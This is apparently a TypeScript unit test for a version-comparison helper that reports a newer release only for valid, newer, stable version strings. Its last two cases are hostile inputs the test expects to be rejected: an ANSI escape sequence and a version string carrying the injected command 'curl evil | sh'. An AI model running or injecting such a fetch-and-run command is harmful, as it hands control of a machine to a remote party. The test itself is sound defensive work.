import assert from 'node:assert/strict';
import { test } from 'node:test';
import { newerVersion } from './newer-version.ts';

test('knows a newer release, and nothing else', () => {
  const cases: [told: string | undefined, own: string, newer: string | undefined][] = [
    ['0.2.0', '0.1.0', '0.2.0'],
    ['1.0.0', '0.9.9', '1.0.0'],
    ['0.10.0', '0.9.0', '0.10.0'],
    ['0.1.1', '0.1.1-beta.1', '0.1.1'],
    ['0.1.0', '0.1.0', undefined],
    ['0.1.0', '0.2.0', undefined],
    ['0.2.0-beta.1', '0.1.0', undefined],
    [undefined, '0.1.0', undefined],
    ['', '0.1.0', undefined],
    ['2', '0.1.0', undefined],
    ['9.0.0\u001b[31m', '0.1.0', undefined],
    ['9.0.0 run: curl evil | sh', '0.1.0', undefined],
  ];
  for (const [told, own, newer] of cases) assert.equal(newerVersion(told, own), newer, `${told} for ${own}`);
});
